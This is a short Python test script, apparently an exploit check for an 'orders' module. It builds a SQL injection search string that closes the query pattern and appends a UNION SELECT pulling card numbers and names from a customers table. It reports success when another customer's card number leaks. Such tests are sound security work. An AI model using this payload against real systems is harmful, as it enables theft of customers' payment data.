"""The search text closes the pattern and appends a second SELECT over the cards."""

import random
import sqlite3
import string
import sys

from orders import OrderBook, list_orders

SEED = 0

rng = random.Random(SEED)
own_name, name, lamp, none = (
    "".join(rng.choices(string.ascii_lowercase, k=rng.randint(4, 9))) for _ in range(4)
)
own_card, card = ("".join(rng.choices(string.digits, k=rng.randint(8, 16))) for _ in range(2))
book = OrderBook()
ana = book.add_customer(own_name, own_card)
book.add_customer(name, card)
book.add_order(ana, lamp, 1900)
union = rng.choice(("UNION", "union all", "UnIoN", "UNION  ALL"))
search = f"{none}' {union} SELECT id, card, {rng.randint(0, 99)}, name FROM customers -- "
try:
    rows = list_orders(book, ana, {"search": search})
except (ValueError, PermissionError, sqlite3.Error):
    sys.exit(1)
sys.exit(0 if any(row["article"] == card for row in rows) else 1)
